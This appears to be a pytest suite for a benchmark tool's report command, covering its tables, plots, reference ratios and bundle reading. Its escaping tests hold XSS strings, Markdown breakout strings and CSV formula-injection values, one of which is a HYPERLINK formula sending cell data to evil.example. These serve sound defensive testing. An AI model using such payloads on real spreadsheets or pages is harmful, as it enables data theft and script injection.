"""llmb report: tables, CSV/JSON/HTML and PNG plots from a real tiny sweep (see tiny_sweep in conftest.py)."""

import base64
import copy
import csv
import dataclasses
import io
import json
import os
import re
import shutil
import struct
import tarfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import markdown_table_widths
from records_factory import make_result

from llmb.cli import cli
from llmb.records import PeakInfo, Precision
from llmb.records.result_files import write_result
from llmb.report import (
    efficiency_figure,
    load,
    make_plots,
    mark_reference,
    plot_panels,
    report,
    scaling_tables,
    versus_batch_figure,
)
from llmb.run import runner
from llmb.spec.presets import build_config

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
SIMULATED = "oomtest | oom_above_batch_size=1"  # the sweep's plugin and settings: the test backend's memory limit
TINY = "tiny (4.2M params)"


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == PNG_SIGNATURE and data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


@pytest.fixture(scope="module")
def inputs(tiny_sweep, tmp_path_factory):
    """The sweep plus one eager FP32 run with default settings (the speed-up baseline), written by the runner."""
    eager = tmp_path_factory.mktemp("eager")
    options = runner.RunOptions(config=build_config("tiny"), preset="tiny", device="cpu", steps=2, warmup_steps=1)
    write_result(runner.run(options), eager)
    return [tiny_sweep, eager]


def invoke(*args):
    return CliRunner().invoke(cli, ["report", *map(str, args)], catch_exceptions=False)


def test_markdown_has_best_batch_per_precision_methods_and_failures(inputs):
    result = invoke(*inputs, "--format", "md")
    assert result.exit_code == 0, result.output
    text = result.output
    assert "## Best batch size per precision" in text
    for name in ("FP32", "FP16", "BF16"):
        row = next(line for line in text.splitlines() if line.startswith(f"| {SIMULATED} |") and f"| {name} |" in line)
        cells = [c.strip() for c in row.strip("|").split("|")]
        assert cells[5] == TINY  # the shape is a column
        assert cells[6] == "1"  # best batch
        assert float(cells[7].replace(",", "")) > 0  # tokens/s
        low, high = (float(v.replace(",", "")) for v in cells[8].split("-"))  # the spread of its runs
        assert low <= float(cells[7].replace(",", "")) <= high
        assert "larger batches: oom" in cells[-1]
    assert "## Methods on " in text and "FP32" in text
    methods = text.split("## Methods on ")[1].split("##")[0]
    assert f"| cpu | defaults | {TINY} | 1 |" in methods and "| 1.00x |" in methods  # the eager baseline
    assert f"| {SIMULATED} | {TINY} | 1 |" in methods
    failures = text.split("## Failed trials")[1]
    assert failures.count("| oom |") == 3 and "simulated" in failures
    assert "Scaling" not in text  # single-device results only


def test_csv_has_one_row_per_run_and_failed_trial(inputs):
    rows = list(csv.DictReader(io.StringIO(report(inputs, fmt="csv"))))
    ok = [r for r in rows if r["status"] == "ok"]
    assert len(ok) == 3 * 2 + 1 and len(rows) == 7 + 3  # batch 1 and its confirmation per precision, the eager run
    assert sorted(r["precision"] for r in rows if r["status"] == "oom") == ["BF16", "FP16", "FP32"]
    assert all(float(r["tokens_per_second"]) > 0 and r["world_size"] == "1" for r in ok)


def test_json_and_console(inputs, tmp_path):
    out = tmp_path / "report.json"
    assert invoke(*inputs, "--out", out).exit_code == 0  # the format follows the suffix
    data = json.loads(out.read_text())
    assert data["schema"] == "llmb.report/1"
    assert [t["name"] for t in data["tables"]] == ["best", "methods", "failures"]
    best = data["tables"][0]["rows"]
    simulated = [r for r in best if (r["method"], r["settings"]) == ("oomtest", "oom_above_batch_size=1")]
    assert {r["precision"] for r in simulated} == {"FP32", "FP16", "BF16"}
    console = invoke(*inputs)
    assert console.exit_code == 0 and "Best batch size per precision" in console.output


def test_plots_are_pngs_and_html_embeds_them(inputs, tmp_path):
    plots = tmp_path / "plots"
    html_file = tmp_path / "report.html"
    result = invoke(*inputs, "--format", "html", "--out", html_file, "--plot", plots)
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in plots.iterdir())
    assert names == [
        "efficiency_vs_batch.png",  # the runner measures every run's matmul peak: an efficiency for the CPU too
        "memory_vs_batch.png",
        "methods.png",
        "tflops_vs_batch.png",
        "throughput_vs_batch.png",
    ]
    for path in plots.iterdir():
        width, height = png_size(path.read_bytes())
        assert width > 400 and height > 200
    page = html_file.read_text()
    assert page.startswith("<!DOCTYPE html>") and page.count("<table>") == 3
    images = re.findall(r"src='data:image/png;base64,([A-Za-z0-9+/=]+)'", page)
    assert len(images) == len(names)
    assert {base64.b64decode(i) for i in images} == {p.read_bytes() for p in plots.iterdir()}
    assert "http" not in page.replace("http-equiv", "")  # nothing to fetch: it opens without a server


def test_submission_bundle_layout_is_read(tiny_sweep, tmp_path):
    bundle = tmp_path / "submissions" / "org" / "system"
    for source in tiny_sweep.glob("*-b1-*.json"):
        record = json.loads(source.read_text())
        target = bundle / "results" / record["precision"]["effective"] / source.name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(source, target)
    (bundle / "system.json").write_text(json.dumps({"submitter": "org"}))
    points = load([tmp_path / "submissions"]).points
    assert sorted(p.precision for p in points) == ["BF16", "BF16", "FP16", "FP16", "FP32", "FP32"]  # 2 trials each


def test_a_result_the_sweep_log_names_but_that_is_gone_is_said_not_dropped(tiny_sweep, tmp_path):
    """A sweep folder whose log names an ok trial whose result file was deleted: the report leaves the point out and
    says which file is gone (before, it dropped the point silently; found by probing, 2026-11-27)."""
    folder = tmp_path / "sweep"
    shutil.copytree(tiny_sweep, folder)
    trials = [json.loads(line) for line in (folder / "sweep.jsonl").read_text().splitlines()]
    gone = next(t for t in trials if t.get("status") == "ok" and t.get("result"))
    (folder / gone["result"]).unlink()
    before = len(load([tiny_sweep]).points)
    inputs = load([folder])
    assert len(inputs.points) == before - 1
    lines = [line for line in inputs.skipped if gone["result"] in line]
    assert len(lines) == 1 and "is gone: its point is left out" in lines[0], inputs.skipped
    result = CliRunner().invoke(cli, ["report", str(folder)])
    assert result.exit_code == 0 and f"skipped: {folder / gone['result']}" in result.output, result.output


def test_scaling_table_from_multi_device_records(tiny_sweep):
    # Made-up multi-device records (copies of a real one with world sizes and throughputs set by hand): they check
    # the table's arithmetic only; real ones come from `llmb run --nproc-per-node N`.
    base = json.loads(next(tiny_sweep.glob("*-FP32-b1-*.json")).read_text())
    records = []
    for world_size, per_device in ((1, 100.0), (2, 90.0), (4, 80.0)):
        record = copy.deepcopy(base)
        record.update(world_size=world_size, nodes=1, parallel="ddp" if world_size > 1 else "none")
        record.update(run_id=f"w{world_size}", tokens_per_second_per_device=per_device)
        record["tokens_per_second"] = per_device * world_size
        records.append(record)
    from llmb.records import Result
    from llmb.report import point_from_record

    points = [point_from_record(Result.from_dict(r), None, "test") for r in records]
    (table,) = scaling_tables(points)
    rows = {r["devices"]: r for r in table.rows}
    assert rows[1]["efficiency"] == 1.0 and rows[2]["efficiency"] == pytest.approx(0.9)
    assert rows[4]["tokens_per_second"] == 320.0 and rows[4]["parallel"] == "ddp"
    assert "against 1 device" in table.note
    plots = make_plots(points, [table])
    names = [
        "throughput_vs_batch.png",
        "tflops_vs_batch.png",
        "efficiency_vs_batch.png",
        "memory_vs_batch.png",
        "methods.png",
        "scaling.png",
    ]
    assert list(plots) == names
    assert png_size(plots["scaling.png"])[0] > 400


@pytest.mark.parametrize(
    "args, code, message",
    [
        (["nosuchdir"], 2, "does not exist"),
        (["{empty}"], 1, "no llmb results found"),
        (["{bad}"], 2, "is not an llmb result"),
        (["{sweep}", "--out", "{empty}/r.txt"], 2, "cannot tell the format"),
    ],
)
def test_bad_input_is_one_line(args, code, message, tiny_sweep, tmp_path):
    (tmp_path / "empty").mkdir()
    (tmp_path / "bad.json").write_text('{"schema": "other"}')
    paths = {"empty": tmp_path / "empty", "bad": tmp_path / "bad.json", "sweep": tiny_sweep}
    result = CliRunner().invoke(cli, ["report", *(a.format(**paths) for a in args)])
    assert result.exit_code == code, result.output
    assert message in result.output and "Traceback" not in result.output


# From factory records (tests/records_factory.py): the report's arithmetic and layout, in milliseconds.


def write_records(folder, *records):
    folder.mkdir(parents=True, exist_ok=True)
    for record in records:
        (folder / f"{record.run_id}.json").write_text(json.dumps(record.to_dict()))
    return folder


def rows_of(text: str, name: str) -> list[dict]:
    tables = [t for t in json.loads(text)["tables"] if t["name"] == name]
    return [row for t in tables for row in t["rows"]]


@pytest.fixture
def sweep_and_reference(tmp_path):
    sweep = write_records(
        tmp_path / "sweep",
        make_result(tokens_per_second=1000.0, batch_size=1, run_id="aaaa0001"),
        make_result(tokens_per_second=2000.0, batch_size=2, run_id="aaaa0002"),
        make_result(tokens_per_second=3000.0, batch_size=2, plugin="acme", run_id="bbbb0001"),
        make_result(tokens_per_second=500.0, precision="BF16", run_id="cccc0001"),
        make_result(tokens_per_second=100.0, preset="small", run_id="dddd0001"),
    )
    reference = write_records(
        tmp_path / "reference",
        make_result(tokens_per_second=20.0, plugin="cpu", device_name="Ref CPU", run_id="eeee0001"),
    )
    return sweep, reference


def test_reference_ratio_only_at_the_same_shape_and_precision(sweep_and_reference):
    sweep, reference = sweep_and_reference
    text = report([sweep], fmt="json", reference=str(reference))  # a folder not among the inputs: added
    rows = {(r["method"], r["device"], r["precision"], r["shape"]): r for r in rows_of(text, "best")}
    assert rows["cpu", "Test CPU", "FP32", TINY]["vs_reference"] == pytest.approx(100.0)  # best batch 2: 2000 / 20
    assert rows["acme", "Test CPU", "FP32", TINY]["vs_reference"] == pytest.approx(150.0)
    assert rows["cpu", "Ref CPU", "FP32", TINY]["vs_reference"] == pytest.approx(1.0)
    assert "reference" in rows["cpu", "Ref CPU", "FP32", TINY]["status"]
    assert rows["cpu", "Test CPU", "BF16", TINY]["vs_reference"] is None  # no BF16 reference: no ratio
    assert rows["cpu", "Test CPU", "FP32", "small (43.3M params)"]["vs_reference"] is None  # never across shapes
    markdown = report([sweep, reference], fmt="md", reference=str(reference))  # among the inputs: marked only
    header = next(line for line in markdown.splitlines() if line.startswith("| Method"))
    assert "x vs reference" in header
    assert "| 100.00x |" in markdown and "| 150.00x |" in markdown and markdown.count("| n/a | 1 |") >= 2
    assert markdown.count("| Ref CPU |") == 1  # read once, though named twice


def test_reference_by_run_id_and_in_the_methods_table(sweep_and_reference):
    sweep, _ = sweep_and_reference
    text = report([sweep], fmt="json", reference="aaaa0001")
    rows = {(r["method"], r["precision"], r["shape"]): r for r in rows_of(text, "best")}
    assert rows["cpu", "FP32", TINY]["vs_reference"] == pytest.approx(2.0)  # its best batch against batch 1's run
    assert rows["acme", "FP32", TINY]["vs_reference"] == pytest.approx(3.0)
    methods = rows_of(text, "methods")
    assert {r["method"]: r["vs_reference"] for r in methods} == {"acme": pytest.approx(3.0), "cpu": pytest.approx(2.0)}
    by_start = rows_of(report([sweep], fmt="json", reference="bbbb"), "best")  # a unique start of a run id
    assert {r["method"]: r["vs_reference"] for r in by_start if r["shape"] == TINY and r["precision"] == "FP32"} == {
        "acme": pytest.approx(1.0),
        "cpu": pytest.approx(2000 / 3000),
    }
    without = report([sweep], fmt="json")
    assert all("vs_reference" not in r for r in rows_of(without, "best"))  # no reference, no column


@pytest.mark.parametrize("selector, why", [("nosuch", "no run id in these results"), ("aaaa", "starts 2 run ids")])
def test_an_unknown_reference_is_a_usage_error_listing_the_runs(sweep_and_reference, selector, why):
    sweep, _ = sweep_and_reference
    result = CliRunner().invoke(cli, ["report", str(sweep), "--reference", selector])
    assert result.exit_code == 2, result.output
    assert why in result.output and "Traceback" not in result.output
    for run_id in ("aaaa0001", "aaaa0002", "bbbb0001", "cccc0001", "dddd0001"):
        assert run_id in result.output


def test_the_reference_is_plotted_in_its_own_panel(sweep_and_reference):
    sweep, reference = sweep_and_reference
    inputs = load([sweep])
    mark_reference(inputs, str(reference))
    assert list(plot_panels(inputs.points)) == ["small (43.3M params)", TINY, f"reference: {TINY}"]
    fig = versus_batch_figure(inputs.points, lambda p: p.tokens_per_second, "tokens/s", "Throughput")
    assert len(fig.axes) == 3
    for ax in fig.axes:
        # Each panel scaled to its own data: a reference 100x slower does not flatten the sweep's curves.
        highest = max(y for line in ax.get_lines() for y in line.get_ydata())
        assert highest <= ax.get_ylim()[1] <= 1.2 * highest, ax.get_title()


def test_markdown_links_its_plots_beside_the_file(sweep_and_reference, tmp_path):
    sweep, _ = sweep_and_reference
    out = tmp_path / "out" / "report.md"
    out.parent.mkdir()
    result = invoke(sweep, "--out", out)  # no --plot: the PNGs go beside the Markdown file
    assert result.exit_code == 0, result.output
    links = re.findall(r"!\[[^]]*\]\(<([^>]+)>\)", out.read_text())
    assert len(links) >= 4 and all(link.startswith("report_plots/") for link in links)
    for link in links:
        assert png_size((out.parent / link).read_bytes())[0] > 400  # relative to the file: it resolves
    elsewhere = tmp_path / "pngs"
    assert invoke(sweep, "--out", out, "--plot", elsewhere).exit_code == 0
    links = re.findall(r"!\[[^]]*\]\(<([^>]+)>\)", out.read_text())
    assert links and all((out.parent / link).resolve().parent == elsewhere.resolve() for link in links)
    printed = invoke(sweep, "--format", "md")  # on stdout and no --plot: nowhere to write them, and it says so
    assert "![" not in printed.output and "give --plot DIR" in printed.output


def test_markdown_shows_record_text_as_written(tmp_path):
    folder = write_records(tmp_path / "r", make_result(device_name="<img src=x onerror=alert(1)> **fast** [a](b)"))
    text = report([folder], fmt="md")
    for markup in (r"<img", r"\*\*fast", r"\[a\]"):  # none of it unescaped
        assert not re.search(r"(?<!\\)" + markup, text), markup
    assert "\\<img src=x onerror=alert(1)\\> \\*\\*fast\\*\\* \\[a\\](b)" in text


def fp8_result(**fields):
    """A record as an FP8 run writes it: the audit found float8 tensors and labelled it FP8. Its plugin declared a
    peak and the record has an MFU against it, which the report must not show."""
    base = make_result(precision="BF16", mode="amp", **fields)
    audit = dataclasses.replace(base.precision.audit, effective="FP8")
    return dataclasses.replace(
        base,
        precision=Precision(requested="BF16", effective="FP8", mode="amp", audit=audit),
        peak=PeakInfo(flops=1e15, source="vendor sheet (BF16)", origin="declared by plugin", declared_flops=1e15),
        mfu=0.4,
        matmul_peak_efficiency=None,
    )


def test_fp8_results_have_their_own_rows_and_no_mfu(tmp_path):
    folder = write_records(tmp_path / "r", make_result(tokens_per_second=800.0, precision="BF16"), fp8_result())
    text = report([folder], fmt="json")
    tables = {t["name"]: t for t in json.loads(text)["tables"]}
    assert {r["precision"] for r in tables["best"]["rows"]} == {"BF16"}
    (outside,) = tables["outside"]["rows"]
    assert outside["precision"] == "FP8" and outside["mfu"] is None
    assert "outside the benchmark" in tables["outside"]["note"]
    markdown = report([folder], fmt="md")
    section = markdown.split("## Outside the benchmark's precisions (FP32/TF32/FP16/BF16)")[1]
    header = next(line for line in section.splitlines() if line.startswith("| Method"))
    assert "MFU" not in header and "| FP8 |" in section
    assert "40.0%" not in markdown and "declared by plugin" not in markdown
    assert all(p.mfu is None for p in load([folder]).points if p.precision == "FP8")


def test_both_efficiencies_are_plotted_against_batch_size(tmp_path):
    records = [
        make_result(
            tokens_per_second=100.0 * b,
            batch_size=b,
            mfu=0.05 * b,
            matmul_peak_efficiency=0.1 * b,
            peak=PeakInfo(flops=1e12, source="a datasheet", origin="llmb table"),
        )
        for b in (1, 2, 4)
    ]
    points = load([write_records(tmp_path / "r", *records)]).points
    fig = efficiency_figure(points)
    mfu_ax, matmul_ax = fig.axes
    (mfu_line,) = mfu_ax.get_lines()
    (matmul_line,) = matmul_ax.get_lines()
    assert list(mfu_line.get_xdata()) == [1, 2, 4]
    assert list(mfu_line.get_ydata()) == pytest.approx([5.0, 10.0, 20.0])  # percent of the datasheet peak
    assert list(matmul_line.get_ydata()) == pytest.approx([10.0, 20.0, 40.0])  # of the measured matmul peak
    assert "efficiency_vs_batch.png" in make_plots(points, [])
    best = rows_of(report([tmp_path / "r"], fmt="json"), "best")[0]
    assert best["matmul_peak_efficiency"] == pytest.approx(0.4) and best["mfu"] == pytest.approx(0.2)
    assert efficiency_figure(load([write_records(tmp_path / "none", make_result())]).points) is None


def test_an_unrecorded_peak_memory_reads_n_a_not_an_empty_cell(tmp_path):
    results = write_records(tmp_path / "r", make_result(peak_memory_bytes=None, run_id="ffff0001"))
    markdown = report([results], fmt="md")
    header = next(line for line in markdown.splitlines() if line.startswith("| Method"))
    row = next(line for line in markdown.splitlines() if line.startswith("| cpu |"))
    names, values = ([c.strip() for c in line.strip("|").split("|")] for line in (header, row))
    cells = dict(zip(names, values, strict=True))
    assert cells["Peak memory"] == "n/a"


def test_a_faster_invalid_run_never_heads_a_row_over_a_valid_or_debug_one(tmp_path):
    folder = write_records(
        tmp_path / "r",
        make_result(tokens_per_second=1000.0, batch_size=1, run_id="aaaa1001"),
        make_result(tokens_per_second=3000.0, batch_size=2, run_id="aaaa1002", invalid_reasons=["replay: step 1"]),
        make_result(tokens_per_second=900.0, precision="BF16", invalid_reasons=["replay: step 1"], run_id="aaaa1003"),
    )
    rows = {r["precision"]: r for r in next(t for t in json.loads(report([folder], fmt="json"))["tables"])["rows"]}
    assert rows["FP32"]["best_batch_size"] == 1 and rows["FP32"]["tokens_per_second"] == 1000.0
    assert rows["FP32"]["status"].startswith("debug") and "1 invalid runs left out" in rows["FP32"]["status"]
    # Where nothing else finished, the invalid run is shown, and says so.
    assert rows["BF16"]["status"].startswith("invalid") and "left out" not in rows["BF16"]["status"]


# Issue 26: text from records lands in each format escaped for it.

BREAKOUTS = [
    "cpu\n# Owned\n\n---\n| a | b |",  # a heading, a rule and a row of its own
    "cpu\r\n## heading",
    "cpu | injected | cells",
    "cpu\t\t---",
    "cpu<script>alert(1)</script>**bold** [link](http://evil.example)",
]


@pytest.mark.parametrize("name", BREAKOUTS)
def test_markdown_rows_hold_record_text_on_their_own_line(tmp_path, name):
    folder = write_records(tmp_path / "r", make_result(plugin=name, device_name=name, run_id="brk00001"))
    result = invoke(folder, "--format", "md")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert not [line for line in lines if "Owned" in line and not line.startswith("|")]
    assert not [line for line in lines if line.startswith("## heading") or line.strip() in ("---", "| a | b |")]
    blocks = markdown_table_widths(lines)  # each table's rows all with its header's cell count
    assert blocks and all(len(set(b)) == 1 for b in blocks), blocks
    assert "<script>" not in result.stdout and "**bold**" not in result.stdout


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"AMD EPYC")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\r=1", " =1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_never_start_a_formula(tmp_path, value):
    folder = write_records(tmp_path / "r", make_result(plugin=value, device_name=value, run_id="csv00001"))
    result = invoke(folder, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    for row in rows:
        for key, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "@", "\t", "\r")), (key, cell)
            if cell.lstrip().startswith("-"):
                float(cell)  # a negative number is a number, never text that a spreadsheet evaluates
    assert any(row["device"].startswith("'") for row in rows)


@pytest.mark.parametrize("command", ["report", "features"])
def test_a_folder_that_cannot_be_listed_is_named_not_passed_over(tmp_path, monkeypatch, command):
    """A sub-folder of results that the reader may not list (no permission) was passed over in silence: exit 0, its
    runs missing from the tables, nothing said. It is named now, as an unreadable file is. The permission is taken
    away by a stand-in for os.scandir (this suite runs as root, which can list a folder whatever its mode)."""
    folder = write_records(tmp_path / "r", make_result())
    locked = folder / "locked"
    locked.mkdir()
    write_result(make_result(batch_size=2), locked)
    real = os.scandir

    def scandir(path="."):
        if os.fspath(path) == str(locked):
            raise PermissionError(13, "Permission denied", str(locked))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.setattr(os, "open", lambda path, *a, _real=os.open, **k: _deny(path, locked) or _real(path, *a, **k))
    result = CliRunner().invoke(cli, [command, str(folder)])
    assert f"skipped: {locked}: unreadable (Permission denied)" in result.output, result.output
    assert "Traceback" not in result.output, result.output


def _deny(path, locked) -> None:
    if os.fspath(path) == str(locked):
        raise PermissionError(13, "Permission denied", str(locked))


def test_a_bundles_archive_reads_as_its_folder_and_a_broken_one_is_one_line(tmp_path):
    """`llmb report` takes submission bundles, and a bundle travels as the .tar.gz `package-submission --archive`
    writes: it was read as one JSON file and refused ("not UTF-8"). It is unpacked as `llmb verify` unpacks one, its
    runs are the folder's, and its files are named as inside the archive, never where it was unpacked."""
    folder = Path(__file__).resolve().parents[1] / "submissions" / "llmb" / "cpu-reference"
    archive = tmp_path / "cpu-reference.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(folder, arcname="cpu-reference")
    from_folder = CliRunner().invoke(cli, ["report", str(folder), "--format", "json"])
    from_archive = CliRunner().invoke(cli, ["report", str(archive), "--format", "json"])
    assert from_archive.exit_code == 0, from_archive.output
    rows = [json.loads(r.output)["points"] for r in (from_folder, from_archive)]
    assert [p["run_id"] for p in rows[1]] == [p["run_id"] for p in rows[0]] and rows[1]
    assert all(p["source"].startswith(f"{archive}/results/") for p in rows[1]), rows[1][0]["source"]
    broken = tmp_path / "broken.tar.gz"
    broken.write_bytes(archive.read_bytes()[:200])
    refused = CliRunner().invoke(cli, ["report", str(broken)])
    assert refused.exit_code == 1 and "Traceback" not in refused.output, refused.output
    assert refused.output.startswith(f"error: {broken}: bundle refused: ") and refused.output.count("\n") == 1
